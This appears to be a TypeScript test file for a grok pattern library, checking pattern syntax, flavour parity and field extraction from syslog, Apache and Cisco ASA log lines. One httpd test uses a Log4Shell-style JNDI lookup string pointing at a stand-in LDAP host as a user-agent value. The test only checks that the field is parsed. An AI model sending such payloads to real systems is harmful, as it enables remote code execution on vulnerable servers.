// The bundled grok pattern library (patterns/legacy and patterns/ecs-v1): file format, references,
// field-name conventions, flavour parity, and what key patterns match. Independent of the grok
// compiler: this test expands %{NAME} references into a JavaScript RegExp itself.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { repoRoot, sharedFile } from '../helpers.js';

type Flavour = 'legacy' | 'ecs-v1';
const FLAVOURS: Flavour[] = ['legacy', 'ecs-v1'];

interface PatternDef { name: string; regex: string; file: string; line: number }
interface Library { defs: Map<string, PatternDef>; files: Map<string, string>; duplicates: string[]; badLines: string[] }

function loadLibrary(flavour: Flavour): Library {
  const dir = join(repoRoot, 'patterns', flavour);
  const defs = new Map<string, PatternDef>();
  const files = new Map<string, string>();
  const duplicates: string[] = [];
  const badLines: string[] = [];
  for (const file of readdirSync(dir).sort()) {
    const text = readFileSync(join(dir, file), 'utf8');
    files.set(file, text);
    text.split('\n').forEach((raw, i) => {
      if (raw === '' || raw.startsWith('#')) return;
      const m = /^([A-Za-z0-9_]+) (\S.*)$/.exec(raw);
      if (!m || /\s$/.test(raw) || raw.includes('\r')) { badLines.push(`${file}:${i + 1}: ${raw}`); return; }
      const [, name, regex] = m as unknown as [string, string, string];
      if (defs.has(name)) duplicates.push(`${name} (${defs.get(name)!.file} and ${file})`);
      defs.set(name, { name, regex, file, line: i + 1 });
    });
  }
  return { defs, files, duplicates, badLines };
}

const libraries = new Map<Flavour, Library>(FLAVOURS.map((f) => [f, loadLibrary(f)]));
const lib = (f: Flavour): Library => libraries.get(f)!;

// %{NAME}, %{NAME:field}, %{NAME:field:type}; grok only converts to int and float.
const REF = /%\{(\w+)(?::([^:}]+))?(?::([^:}]+))?\}/g;
// (?<field>...) inline named captures, not lookbehinds.
const INLINE_CAPTURE = /\(\?<(?![=!])([^>]+)>/g;

function references(regex: string): { name: string; field?: string; type?: string }[] {
  return [...regex.matchAll(REF)].map((m) => ({ name: m[1]!, field: m[2], type: m[3] }));
}
function inlineFields(regex: string): string[] {
  return [...regex.matchAll(INLINE_CAPTURE)].map((m) => m[1]!);
}

// Syntax that JavaScript does not have. The library keeps it to a minimum; patterns using it are
// skipped by the expansion below (the grok compiler translates them).
const ONIGURUMA_ONLY = /\(\?>|\(\?[imx-]+[:)]|\\[hHAzZGK]|[*+?]\+(?![^[]*\])|\[:(?!alnum:\])[a-z]+:\]/;

interface Compiled { re: RegExp; fields: string[] }
const compiled = new Map<string, Compiled | null>();

/** Expand a pattern into a JS RegExp, with each captured field as group gN; null if it needs Oniguruma. */
function compile(flavour: Flavour, name: string, wrap: (src: string) => string = (s) => s): Compiled | null {
  const key = `${flavour}\0${name}\0${wrap('\u0001')}`;
  if (compiled.has(key)) return compiled.get(key)!;
  const defs = lib(flavour).defs;
  const fields: string[] = [];
  let unicode = false;
  let oniguruma = false;
  const expand = (n: string, depth: number): string => {
    const def = defs.get(n);
    if (!def) throw new Error(`${flavour}: %{${n}} is not defined`);
    if (depth > 40) throw new Error(`${flavour}: %{${n}} recursion too deep`);
    if (ONIGURUMA_ONLY.test(def.regex)) oniguruma = true;
    let src = def.regex.replace(INLINE_CAPTURE, (_m, field: string) => { fields.push(field); return `(?<g${fields.length - 1}>`; });
    if (src.includes('[:alnum:]')) { unicode = true; src = src.replaceAll('[:alnum:]', '\\p{L}\\p{M}\\p{Nd}'); }
    return src.replace(REF, (_m, ref: string, field?: string) => {
      const body = expand(ref, depth + 1);
      if (!field) return `(?:${body})`;
      fields.push(field);
      return `(?<g${fields.length - 1}>${body})`;
    });
  };
  const source = wrap(expand(name, 0));
  const result = oniguruma ? null : { re: new RegExp(source, unicode ? 'u' : ''), fields };
  compiled.set(key, result);
  return result;
}

function mustCompile(flavour: Flavour, name: string, wrap?: (src: string) => string): Compiled {
  const c = compile(flavour, name, wrap);
  assert.ok(c, `${flavour} ${name} uses Oniguruma-only syntax`);
  return c;
}

function fullMatch(flavour: Flavour, name: string, input: string): boolean {
  return mustCompile(flavour, name, (s) => `^(?:${s})$`).re.test(input);
}

type Fields = Record<string, string | string[]>;
/** Search like grok does (unanchored unless the pattern anchors itself); returns the captured fields. */
function grok(flavour: Flavour, name: string, input: string): { matched: string; fields: Fields } | null {
  const c = mustCompile(flavour, name);
  const m = c.re.exec(input);
  if (!m) return null;
  const fields: Fields = {};
  c.fields.forEach((field, i) => {
    const v = m.groups?.[`g${i}`];
    if (v === undefined) return;
    const prev = fields[field];
    fields[field] = prev === undefined ? v : ([] as string[]).concat(prev, v);
  });
  return { matched: m[0], fields };
}

// ---------------------------------------------------------------------------------------------
// Format and consistency

test('pattern files: one "NAME regex" per line, comments and blank lines only otherwise', () => {
  for (const f of FLAVOURS) {
    assert.deepEqual(lib(f).badLines, [], `${f}: malformed lines`);
    assert.ok(lib(f).defs.size > 300, `${f}: expected the full library, found ${lib(f).defs.size} patterns`);
  }
});

test('pattern files: every file says it was written for Sluice and which Logstash set it matches', () => {
  for (const f of FLAVOURS) {
    for (const [file, text] of lib(f).files) {
      const header = text.split('\n').slice(0, 4).join('\n');
      assert.match(header, /Written for Sluice\./, `${f}/${file}`);
      assert.match(header, new RegExp(`logstash-patterns-core "${f}" set`), `${f}/${file}`);
    }
  }
});

test('pattern names are unique within each flavour', () => {
  for (const f of FLAVOURS) assert.deepEqual(lib(f).duplicates, [], `${f}: names defined twice`);
});

test('every %{NAME} reference resolves within the same flavour, with an int or float type if any', () => {
  for (const f of FLAVOURS) {
    const { defs } = lib(f);
    const unresolved: string[] = [];
    const badTypes: string[] = [];
    for (const def of defs.values()) {
      for (const ref of references(def.regex)) {
        if (!defs.has(ref.name)) unresolved.push(`${def.file}: ${def.name} -> ${ref.name}`);
        if (ref.type !== undefined && ref.type !== 'int' && ref.type !== 'float') badTypes.push(`${def.name}: ${ref.type}`);
      }
    }
    assert.deepEqual(unresolved, [], `${f}: unresolved references`);
    assert.deepEqual(badTypes, [], `${f}: unsupported type conversions`);
  }
});

test('no pattern refers to itself, directly or through others', () => {
  for (const f of FLAVOURS) {
    const { defs } = lib(f);
    const state = new Map<string, 'visiting' | 'done'>();
    const visit = (name: string, path: string[]): void => {
      if (state.get(name) === 'done') return;
      assert.notEqual(state.get(name), 'visiting', `${f}: reference cycle ${[...path, name].join(' -> ')}`);
      state.set(name, 'visiting');
      for (const ref of references(defs.get(name)!.regex)) if (defs.has(ref.name)) visit(ref.name, [...path, name]);
      state.set(name, 'done');
    };
    for (const name of defs.keys()) visit(name, []);
  }
});

test('ecs-v1 field names use the [a][b] field-reference form (bare only for timestamp and message)', () => {
  const bad: string[] = [];
  for (const def of lib('ecs-v1').defs.values()) {
    const fields = [...references(def.regex).map((r) => r.field).filter((x): x is string => x !== undefined), ...inlineFields(def.regex)];
    for (const field of fields) {
      if (field === 'timestamp' || field === 'message') continue;
      if (!/^(?:\[[A-Za-z0-9@_]+\])+$/.test(field)) bad.push(`${def.name}: ${field}`);
    }
  }
  assert.deepEqual(bad, []);
});

test('legacy field names are plain names, never ECS references', () => {
  const bad: string[] = [];
  for (const def of lib('legacy').defs.values()) {
    const fields = [...references(def.regex).map((r) => r.field).filter((x): x is string => x !== undefined), ...inlineFields(def.regex)];
    for (const field of fields) if (!/^[A-Za-z0-9_-]+$/.test(field)) bad.push(`${def.name}: ${field}`);
  }
  assert.deepEqual(bad, []);
});

// Names that upstream itself defines in only one flavour (Logstash has them only there too).
const ONLY_IN: Record<Flavour, string[]> = {
  legacy: ['HAPROXYERROR'],
  'ecs-v1': [
    'BACULA_LOG', 'BIND9_CATEGORY', 'BIND9_DNSTYPE', 'BIND9_QUERYLOG', 'BIND9_QUERYLOGBASE', 'BRO_BOOL', 'BRO_DATA',
    'CATALINA7_DATESTAMP', 'CATALINA7_LOG', 'CATALINA8_DATESTAMP', 'CATALINA8_LOG', 'CISCO_DST_HOST_PORT_USER', 'CISCO_DST_IP_USER',
    'CISCO_HITCOUNT_INTERVAL', 'CISCO_SRC_HOST_PORT_USER', 'CISCO_SRC_IP_USER', 'CLOUDFRONT_EDGE_LOCATION', 'ELB_URIHOST',
    'ELB_URIPATHQUERY', 'ELB_V1_HTTP_LOG', 'EXIM_QUOTED_CONTENT', 'HAPROXYHTTPREQUESTLINE', 'HAPROXYURI', 'IPTABLES',
    'IPTABLES4_FRAG', 'IPTABLES4_PART', 'IPTABLES6_PART', 'IPTABLES_TCP_FLAGS', 'IPTABLES_TCP_PART', 'RT_FLOW_TAG',
    'SFW2_LOG_PREFIX', 'SQUID3_STATUS', 'TOMCAT7_LOG', 'TOMCAT8_LOG', 'TOMCATLEGACY_DATESTAMP', 'TOMCATLEGACY_LOG', 'URIQUERY',
    'ZEEK_BOOL', 'ZEEK_CONN', 'ZEEK_DATA', 'ZEEK_DNS', 'ZEEK_FILES', 'ZEEK_FILES_RX_HOSTS', 'ZEEK_FILES_TX_HOSTS', 'ZEEK_HTTP',
  ],
};

test('both flavours define the same pattern names, apart from upstream\'s own flavour-only names', () => {
  const legacy = new Set(lib('legacy').defs.keys());
  const ecs = new Set(lib('ecs-v1').defs.keys());
  const onlyLegacy = [...legacy].filter((n) => !ecs.has(n)).sort();
  const onlyEcs = [...ecs].filter((n) => !legacy.has(n)).sort();
  assert.deepEqual(onlyLegacy, [...ONLY_IN.legacy].sort());
  assert.deepEqual(onlyEcs, [...ONLY_IN['ecs-v1']].sort());
});

test('the standard base pattern names are all present in both flavours', () => {
  const names = `USERNAME USER EMAILLOCALPART EMAILADDRESS INT BASE10NUM NUMBER BASE16NUM BASE16FLOAT POSINT NONNEGINT WORD NOTSPACE
    SPACE DATA GREEDYDATA QUOTEDSTRING UUID URN MAC CISCOMAC WINDOWSMAC COMMONMAC IPV6 IPV4 IP HOSTNAME IPORHOST HOSTPORT PATH
    UNIXPATH TTY WINPATH URIPROTO URIHOST URIPATH URIPARAM URIPATHPARAM URI MONTH MONTHNUM MONTHNUM2 MONTHDAY DAY YEAR HOUR
    MINUTE SECOND TIME DATE_US DATE_EU ISO8601_TIMEZONE ISO8601_SECOND TIMESTAMP_ISO8601 DATE DATESTAMP TZ DATESTAMP_RFC822
    DATESTAMP_RFC2822 DATESTAMP_OTHER DATESTAMP_EVENTLOG SYSLOGTIMESTAMP PROG SYSLOGPROG SYSLOGHOST SYSLOGFACILITY HTTPDATE QS
    SYSLOGBASE LOGLEVEL HTTPD_COMMONLOG HTTPD_COMBINEDLOG HTTPD20_ERRORLOG HTTPD24_ERRORLOG HTTPD_ERRORLOG COMMONAPACHELOG
    COMBINEDAPACHELOG SYSLOGLINE SYSLOG5424LINE CISCO_TAGGED_SYSLOG NETSCREENSESSIONLOG SHOREWALL SFW2 RT_FLOW1 RT_FLOW2 RT_FLOW3
    BIND9 SQUID3 HAPROXYHTTP HAPROXYTCP S3_ACCESS_LOG ELB_ACCESS_LOG CLOUDFRONT_ACCESS_LOG BRO_HTTP BRO_DNS BRO_CONN BRO_FILES`.split(/\s+/);
  for (const f of FLAVOURS) {
    const missing = names.filter((n) => !lib(f).defs.has(n));
    assert.deepEqual(missing, [], f);
  }
});

test('every pattern compiles as a JavaScript RegExp once expanded (no Oniguruma-only syntax left)', () => {
  for (const f of FLAVOURS) {
    const failures: string[] = [];
    for (const name of lib(f).defs.keys()) {
      try {
        if (!compile(f, name)) failures.push(`${name}: Oniguruma-only syntax`);
      } catch (e) {
        failures.push(`${name}: ${(e as Error).message}`);
      }
    }
    assert.deepEqual(failures, [], f);
  }
});

test('every pattern also compiles with the u flag (no identity escapes the compiler would have to rewrite)', () => {
  for (const f of FLAVOURS) {
    const failures: string[] = [];
    for (const name of lib(f).defs.keys()) {
      const c = compile(f, name);
      if (!c) continue;
      try { new RegExp(c.re.source, 'u'); } catch (e) { failures.push(`${name}: ${(e as Error).message}`); }
    }
    assert.deepEqual(failures, [], f);
  }
});

// ---------------------------------------------------------------------------------------------
// What the base patterns accept (whole-string matches), identical in both flavours

const ACCEPTS: Record<string, { yes: string[]; no: string[] }> = {
  IPV4: {
    yes: ['0.0.0.0', '10.10.17.99', '192.168.1.1', '255.255.255.255', '249.250.199.100', '01.02.003.004', '127.0.0.1'],
    no: ['256.1.1.1', '1.2.3', '1.2.3.4.5', '1.2.3.256', '1.2.3.0004', '300.300.300.300', 'a.b.c.d', '1..2.3', ' 1.2.3.4'],
  },
  IPV6: {
    yes: ['2001:db8::1', '::1', '::', 'fe80::1%eth0', '2001:0db8:85a3:0000:0000:8a2e:0370:7334', '2001:db8:85a3::8a2e:370:7334',
      '::ffff:192.0.2.128', '64:ff9b::192.0.2.33', '1:2:3:4:5:6:7::', '1::', 'FE80::ABCD:1', '240e:9eca:afb0:11ee:4b22:e1ff:fe3f:3e77',
      '1:2:3:4:5:6:1.2.3.4', '::2:3:4:5:6:7:8'],
    no: ['1:2:3:4:5:6:7:8:9', '12345::1', ':1:2', '2001:db8:::1', 'g::1', '1.2.3.4', '::ffff:1.2.3.256', 'fe80::1::2'],
  },
  IP: { yes: ['10.0.0.1', '2001:db8::2'], no: ['10.0.0', 'host.example.com'] },
  HOSTNAME: {
    yes: ['localhost', 'fw-tokyo-01', 'asa-dc1-edge01.corp.example.internal', 'example.com.', 'a', '1e100.net', `${'a'.repeat(63)}.com`, 'xn--bcher-kva.example'],
    no: ['-leading.example', 'under_score.example', 'double..dot', '.leading', `${'a'.repeat(64)}.com`, 'sp ace'],
  },
  IPORHOST: { yes: ['10.1.2.3', 'fe80::1', 'mail.example.org'], no: ['bad host', '-x'] },
  HOSTPORT: { yes: ['10.1.2.3:443', 'example.com:8080'], no: ['example.com:0', 'example.com:', 'example.com'] },
  MONTH: {
    yes: ['Jan', 'January', 'Januar', 'jan', 'Feb', 'February', 'Februar', 'Mar', 'March', 'Mär', 'März', 'Marz', 'Apr', 'April', 'May',
      'Mai', 'Jun', 'June', 'Juni', 'Jul', 'July', 'Juli', 'Aug', 'August', 'Sep', 'September', 'Oct', 'October', 'Okt', 'Oktober',
      'Nov', 'November', 'Dec', 'December', 'Dez', 'Dezember', 'dec'],
    no: ['JAN', 'Janu', 'Sept', 'Mayday', 'Juno', 'Foo', 'mar1', 'Decem'],
  },
  MONTHNUM: { yes: ['1', '01', '9', '09', '10', '12'], no: ['0', '00', '13', '012'] },
  MONTHNUM2: { yes: ['01', '12'], no: ['1', '13', '00'] },
  MONTHDAY: { yes: ['1', '01', '09', '10', '29', '31'], no: ['0', '00', '32', '40'] },
  DAY: { yes: ['Mon', 'Monday', 'Tue', 'Tuesday', 'Wed', 'Wednesday', 'Thu', 'Thursday', 'Fri', 'Friday', 'Sat', 'Saturday', 'Sun', 'Sunday'], no: ['mon', 'Tues', 'MON'] },
  YEAR: { yes: ['26', '2026', '1999'], no: ['2', '202', '20265'] },
  HOUR: { yes: ['0', '00', '9', '19', '23'], no: ['24', '30'] },
  MINUTE: { yes: ['00', '59'], no: ['60', '5'] },
  SECOND: { yes: ['00', '5', '59', '60', '59.999', '07,123', '07:123'], no: ['61', '60.'] },
  TIME: { yes: ['00:00:00', '9:05:07', '23:59:60', '12:30:45.123456', '12:30:45,5'], no: ['24:00:00', '12:30', '12:60:00', '1:2:3'] },
  ISO8601_TIMEZONE: { yes: ['Z', '+00:00', '-0500', '+05:30', '+5:30'], no: ['+05', 'UTC', 'z'] },
  TIMESTAMP_ISO8601: {
    yes: ['2026-11-01T00:00:01.123456+0000', '2026-11-01T00:00:00Z', '2026-11-01 00:00:00', '2026-11-01T00:00', '2012-12-31T23:59:60-04:00',
      '20-1-2T3:04:05', '2026-11-01T0000Z'],
    no: ['2026-13-01T00:00:00Z', '2026-11-32T00:00:00Z', '2026-11-01T24:00:00Z', '2026/11/01T00:00:00Z', '2026-11-01'],
  },
  TZ: { yes: ['UTC', 'PST', 'EDT', 'CST', 'MDT', 'AST', 'EST'], no: ['CET', 'GMT', 'CEST', 'utc', 'PT'] },
  SYSLOGTIMESTAMP: { yes: ['Nov  1 00:00:00', 'Nov 01 00:00:00', 'Jan 9 07:13:13.123', 'Mär 15 10:00:00'], no: ['Nov 1 00:00', 'Nov 32 00:00:00', '2026-11-01 00:00:00'] },
  HTTPDATE: { yes: ['01/Nov/2026:00:00:00 +0000', '9/Feb/2020:23:59:59 -0700'], no: ['01/Nov/2026 00:00:00 +0000', '01/11/2026:00:00:00 +0000'] },
  DATESTAMP_RFC822: { yes: ['Sun Nov 1 2026 00:00:00 UTC'], no: ['Sun, 1 Nov 2026 00:00:00 +0000'] },
  DATESTAMP_RFC2822: { yes: ['Sun, 1 Nov 2026 00:00:00 +0000', 'Mon, 09 Feb 2020 23:59:59 Z'], no: ['Sun Nov 1 2026 00:00:00 UTC'] },
  DATESTAMP_OTHER: { yes: ['Sun Nov 1 00:00:00 UTC 2026'], no: ['Sun Nov 1 00:00:00 2026'] },
  DATESTAMP_EVENTLOG: { yes: ['20261101000000', '20261101235959.123'], no: ['20261101', '20261301000000'] },
  DATESTAMP: { yes: ['11/01/2026 00:00:00', '01.11.2026-00:00:00', '1-1-26 1:02:03'], no: ['2026-11-01 00:00:00'] },
  INT: { yes: ['0', '-12', '+7', '123456789012345'], no: ['1.5', '', '+', '1e5'] },
  POSINT: { yes: ['1', '42', '65535'], no: ['0', '01', '-1'] },
  NONNEGINT: { yes: ['0', '00', '42'], no: ['-1', '1.0'] },
  NUMBER: { yes: ['0', '1.5', '-1.5', '+.5', '.5', '123', '0.000000'], no: ['1.', '1.5.7', '1e5', '--1', '.'] },
  BASE16NUM: { yes: ['ff', '0x1F', '-0xABC', '12ab'], no: ['0xg', 'g1'] },
  // As upstream: the leading and trailing \b keep a bare '.a' or '1.' from matching as a whole string.
  BASE16FLOAT: { yes: ['0x1.8', 'ff.f', '1.8'], no: ['0x', 'g.1', '.a', '1.', '+0x1f'] },
  WORD: { yes: ['abc', 'A_1', '_'], no: ['a-b', 'a b', ''] },
  NOTSPACE: { yes: ['a-b:c/d', '%ASA-6-302013:'], no: ['a b', ''] },
  USERNAME: { yes: ['root', 'first.last', 'svc_account-1'], no: ['user name', 'a@b'] },
  QUOTEDSTRING: {
    yes: ['"hello world"', '""', "'single'", "''", '`back`', '"with \\"escaped\\" quotes"', '"trailing backslash \\\\"'],
    no: ['"unterminated', 'no quotes', '"a"b"', '"ends with escaped quote\\"'],
  },
  UUID: { yes: ['123e4567-e89b-12d3-a456-426614174000', 'ABCDEF01-2345-6789-ABCD-EF0123456789'], no: ['123e4567e89b12d3a456426614174000', '123e4567-e89b-12d3-a456-42661417400'] },
  URN: { yes: ['urn:isbn:0451450523', 'urn:ietf:rfc:2648', 'urn:example:a%2Fb'], no: ['urn::x', 'urn:isbn', 'isbn:0451450523'] },
  MAC: { yes: ['00:1A:2b:3C:4d:5E', '00-1A-2B-3C-4D-5E', '0011.2233.4455'], no: ['00:1A:2B:3C:4D', '00:1A:2B:3C:4D:5G', '001A.2B3C.4D5E.6F'] },
  CISCOMAC: { yes: ['0011.2233.4455'], no: ['00:11:22:33:44:55'] },
  WINDOWSMAC: { yes: ['00-11-22-33-44-55'], no: ['0011.2233.4455'] },
  COMMONMAC: { yes: ['00:11:22:33:44:55'], no: ['00-11-22-33-44-55'] },
  UNIXPATH: { yes: ['/', '/var/log/messages', '/home/jörg/notes.txt', '/tmp/a,b+c~d@e', '/a//b'], no: ['var/log', 'C:\\Windows'] },
  WINPATH: { yes: ['C:\\Windows\\System32', '\\\\server\\share\\dir', 'C:\\Program Files\\x'], no: ['C:/Windows', '/usr/bin'] },
  PATH: { yes: ['/usr/bin', 'D:\\data'], no: ['relative/path'] },
  TTY: { yes: ['/dev/pts/0', '/dev/tty1', '/dev/ttyp1', '/dev/ttyS0/1'], no: ['/dev/sda', '/dev/pts/'] },
  URIPROTO: { yes: ['http', 'https', 'svn+ssh', 'x-y.z'], no: ['h', '1http', '+x'] },
  URIPATH: { yes: ['/', '/index.html', '/a/b;c=d/e', "/%7Euser/(x)!*'"], no: ['index.html', '/a b'] },
  URIPATHPARAM: { yes: ['/search?q=grok&lang=en', '/a?', '/a?x=[1]&y=<2>|z'], no: ['?q=1', '/a?b c'] },
  URI: {
    yes: ['http://example.com', 'https://user:pw@example.com:8443/path/x.html?q=1#frag', 'ftp://10.0.0.1/pub', 'http://host'],
    no: ['example.com/path', 'http:/example.com', '://x'],
  },
  LOGLEVEL: {
    yes: ['INFO', 'Info', 'info', 'Information', 'INFORMATION', 'WARN', 'WARNING', 'Warn', 'warning', 'ERROR', 'Error', 'err', 'ERR', 'CRIT', 'critical',
      'FATAL', 'fatal', 'DEBUG', 'debug', 'TRACE', 'Notice', 'ALERT', 'EMERG', 'Emergency', 'emerg', 'SEVERE', 'Severe'],
    no: ['iNFO', 'Warnings', 'DEBUGGING', 'verbose', 'eRROR'],
  },
  PROG: { yes: ['sshd', 'postfix/smtpd', 'ansible-<stdin>', '%ASA'], no: ['kernel[0]', 'a b', ''] },
};

for (const f of FLAVOURS) {
  test(`${f}: base patterns accept exactly the expected strings`, () => {
    for (const [name, { yes, no }] of Object.entries(ACCEPTS)) {
      for (const s of yes) assert.ok(fullMatch(f, name, s), `${name} should match ${JSON.stringify(s)}`);
      for (const s of no) assert.ok(!fullMatch(f, name, s), `${name} should not match ${JSON.stringify(s)}`);
    }
  });
}

test('email local parts follow each flavour: legacy starts with a letter, ecs-v1 takes RFC 5322 dot-atoms', () => {
  assert.ok(fullMatch('legacy', 'EMAILADDRESS', 'first.last@example.com'));
  assert.ok(fullMatch('ecs-v1', 'EMAILADDRESS', 'first.last@example.com'));
  assert.ok(!fullMatch('legacy', 'EMAILADDRESS', '1abc@example.com'));
  assert.ok(fullMatch('ecs-v1', 'EMAILADDRESS', '1abc@example.com'));
  assert.ok(fullMatch('ecs-v1', 'EMAILADDRESS', "o'brien+tag@mail.example.org"));
  assert.ok(!fullMatch('ecs-v1', 'EMAILADDRESS', 'two..dots@example.com'));
  assert.ok(fullMatch('legacy', 'EMAILADDRESS', 'a:b=c@example.com'));
});

test('numbers are taken whole when searched, as upstream\'s atomic group does', () => {
  for (const f of FLAVOURS) {
    assert.equal(grok(f, 'NUMBER', 'took 1.5.7 s')?.matched, '1.5');
    assert.equal(grok(f, 'NUMBER', 'v=-12.25ms')?.matched, '-12.25');
    assert.equal(grok(f, 'IPV4', 'from 10.1.2.3:443')?.matched, '10.1.2.3');
    assert.equal(grok(f, 'IPV4', 'ver 1.2.3.4567'), null, 'no address inside a longer digit run');
    assert.equal(grok(f, 'IPV4', 'ver 1.2.3.4.5')?.matched, '1.2.3.4', 'a following dot ends the address, as upstream');
    assert.equal(grok(f, 'MONTHNUM', '12')?.matched, '1', 'MONTHNUM prefers the one-digit month when nothing follows, as upstream');
    // a quote preceded by a backslash does not open a string; the next quote does
    assert.equal(grok(f, 'QUOTEDSTRING', 'say \\"x" then "y z" done')?.matched, '" then "');
  }
});

test('syslog header fields: legacy names and ECS names', () => {
  const line = 'Nov  1 00:00:03 fw-tokyo-01 sshd[4242]: Accepted publickey for root from 10.1.2.3 port 50022 ssh2';
  assert.deepEqual(grok('legacy', 'SYSLOGLINE', line)?.fields, {
    timestamp: 'Nov  1 00:00:03', logsource: 'fw-tokyo-01', program: 'sshd', pid: '4242',
    message: 'Accepted publickey for root from 10.1.2.3 port 50022 ssh2',
  });
  assert.deepEqual(grok('ecs-v1', 'SYSLOGLINE', line)?.fields, {
    timestamp: 'Nov  1 00:00:03', '[host][hostname]': 'fw-tokyo-01', '[process][name]': 'sshd', '[process][pid]': '4242',
    message: 'Accepted publickey for root from 10.1.2.3 port 50022 ssh2',
  });
  const rfc5424 = '<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 [exampleSDID@32473 iut="3"] BOM\'su root\' failed';
  assert.deepEqual(grok('ecs-v1', 'SYSLOG5424LINE', rfc5424)?.fields, {
    '[log][syslog][priority]': '34', '[system][syslog][version]': '1', timestamp: '2003-10-11T22:14:15.003Z',
    '[host][hostname]': 'mymachine.example.com', '[process][name]': 'su', '[event][code]': 'ID47',
    '[system][syslog][structured_data]': '[exampleSDID@32473 iut="3"]', message: 'BOM\'su root\' failed',
  });
  assert.equal(grok('legacy', 'SYSLOG5424LINE', rfc5424)?.fields.syslog5424_msgid, 'ID47');
});

test('httpd combined log: legacy and ECS fields', () => {
  const line = '203.0.113.7 - alice [01/Nov/2026:00:00:00 +0000] "GET /index.html?q=1 HTTP/1.1" 200 5120 "https://example.com/" "curl/8.5.0"';
  assert.deepEqual(grok('legacy', 'HTTPD_COMBINEDLOG', line)?.fields, {
    clientip: '203.0.113.7', ident: '-', auth: 'alice', timestamp: '01/Nov/2026:00:00:00 +0000', verb: 'GET', request: '/index.html?q=1',
    httpversion: '1.1', response: '200', bytes: '5120', referrer: '"https://example.com/"', agent: '"curl/8.5.0"',
  });
  assert.deepEqual(grok('ecs-v1', 'HTTPD_COMBINEDLOG', line)?.fields, {
    '[source][address]': '203.0.113.7', '[user][name]': 'alice', timestamp: '01/Nov/2026:00:00:00 +0000',
    '[http][request][method]': 'GET', '[url][original]': '/index.html?q=1', '[http][version]': '1.1',
    '[http][response][status_code]': '200', '[http][response][body][bytes]': '5120',
    '[http][request][referrer]': 'https://example.com/', '[user_agent][original]': 'curl/8.5.0',
  });
  const ipv6 = '240e:9eca:afb0:11ee:4b22:e1ff:fe3f:3e77 - - [01/Nov/2026:00:00:00 +0000] "GET / HTTP/1.1" 403 153 "-" "${jndi:ldap://192.0.2.210:1389/a}"';
  assert.equal(grok('ecs-v1', 'HTTPD_COMBINEDLOG', ipv6)?.fields['[source][address]'], '240e:9eca:afb0:11ee:4b22:e1ff:fe3f:3e77');
  assert.equal(grok('ecs-v1', 'HTTPD_COMBINEDLOG', ipv6)?.fields['[user_agent][original]'], '${jndi:ldap://192.0.2.210:1389/a}');
  const err = '[Sun Nov 01 00:00:00.123456 2026] [proxy:error] [pid 1234:tid 5678] (111)Connection refused: AH00957: HTTP: attempt to connect to 127.0.0.1:8080 (*) failed';
  assert.deepEqual(grok('ecs-v1', 'HTTPD24_ERRORLOG', err)?.fields, {
    timestamp: 'Sun Nov 01 00:00:00.123456 2026', '[apache][error][module]': 'proxy', '[log][level]': 'error', '[process][pid]': '1234',
    '[process][thread][id]': '5678', '[apache][error][proxy][error][code]': '111', '[apache][error][proxy][error][message]': 'Connection refused',
    '[error][code]': 'AH00957', message: 'HTTP: attempt to connect to 127.0.0.1:8080 (*) failed',
  });
});

// ---------------------------------------------------------------------------------------------
// Cisco ASA

const ASA_HEADER = '<166>Nov 01 2026 00:00:00 fw-tokyo-01 : %ASA-6-302013: ';

test('CISCO_TAGGED_SYSLOG reads the ASA syslog header in both flavours', () => {
  assert.deepEqual(grok('legacy', 'CISCO_TAGGED_SYSLOG', ASA_HEADER)?.fields, {
    syslog_pri: '166', timestamp: 'Nov 01 2026 00:00:00', sysloghost: 'fw-tokyo-01', ciscotag: 'ASA-6-302013',
  });
  assert.deepEqual(grok('ecs-v1', 'CISCO_TAGGED_SYSLOG', ASA_HEADER)?.fields, {
    '[log][syslog][priority]': '166', timestamp: 'Nov 01 2026 00:00:00', '[host][hostname]': 'fw-tokyo-01', '[cisco][asa][tag]': 'ASA-6-302013',
  });
  assert.equal(grok('ecs-v1', 'CISCO_TAGGED_SYSLOG', '<164>Jan  9 10:00:00: %FTD-4-313005: x')?.fields['[cisco][asa][tag]'], 'FTD-4-313005');
  assert.equal(grok('ecs-v1', 'CISCO_TAGGED_SYSLOG', 'Nov 01 2026 00:00:00 fw : %ASA-6-302013: '), null, 'anchored at the <PRI>');
});

test('CISCOFW302013_302014_302015_302016: built and teardown lines', () => {
  const built = 'Built outbound TCP connection 32229240 for outside:13.107.147.94/443 (13.107.147.94/443) to inside:10.10.17.99/56798 (203.0.113.11/56798)';
  assert.deepEqual(grok('ecs-v1', 'CISCOFW302013_302014_302015_302016', built)?.fields, {
    '[cisco][asa][outcome]': 'Built', '[cisco][asa][network][direction]': 'outbound', '[cisco][asa][network][transport]': 'TCP',
    '[cisco][asa][connection_id]': '32229240', '[observer][ingress][interface][name]': 'outside', '[source][ip]': '13.107.147.94',
    '[source][port]': '443', '[source][nat][ip]': '13.107.147.94', '[source][nat][port]': '443', '[observer][egress][interface][name]': 'inside',
    '[destination][ip]': '10.10.17.99', '[destination][port]': '56798', '[destination][nat][ip]': '203.0.113.11', '[destination][nat][port]': '56798',
  });
  assert.deepEqual(grok('legacy', 'CISCOFW302013_302014_302015_302016', built)?.fields, {
    action: 'Built', direction: 'outbound', protocol: 'TCP', connection_id: '32229240', src_interface: 'outside', src_ip: '13.107.147.94',
    src_port: '443', src_mapped_ip: '13.107.147.94', src_mapped_port: '443', dst_interface: 'inside', dst_ip: '10.10.17.99', dst_port: '56798',
    dst_mapped_ip: '203.0.113.11', dst_mapped_port: '56798',
  });
  const teardown = 'Teardown TCP connection 111940582 for outside:142.251.7.70/80 to inside:10.10.16.149/64462 duration 0:00:20 bytes 25320644 TCP FINs from inside';
  const t = grok('ecs-v1', 'CISCOFW302013_302014_302015_302016', teardown)?.fields;
  assert.equal(t?.['[cisco][asa][duration]'], '0:00:20');
  assert.equal(t?.['[network][bytes]'], '25320644');
  assert.equal(t?.['[event][reason]'], 'TCP FINs from inside');
  assert.equal(grok('legacy', 'CISCOFW302013_302014_302015_302016', teardown)?.fields.reason, 'TCP FINs from inside');
  // "interface:address" is split at the last colon that leaves a valid address, as upstream does;
  // with IPv6 that can cut the address (upstream behaviour, kept).
  const v6 = 'Built inbound UDP connection 7 for outside:2001:db8::5/53 (2001:db8::5/53) to dmz:2001:db8:1::53/53 (2001:db8:1::53/53)';
